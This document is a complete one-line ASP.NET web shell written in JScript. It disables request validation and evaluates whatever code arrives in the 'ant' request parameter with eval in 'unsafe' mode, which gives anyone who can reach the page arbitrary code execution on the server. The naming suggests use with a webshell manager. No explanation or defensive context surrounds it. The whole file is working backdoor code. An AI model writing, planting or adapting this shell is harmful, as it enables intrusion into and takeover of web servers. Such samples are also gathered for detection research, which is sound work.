<%@ Page Language="Jscript" validateRequest="false" %><%var c=Request.Item["ant"];eval(c,"unsafe");%>
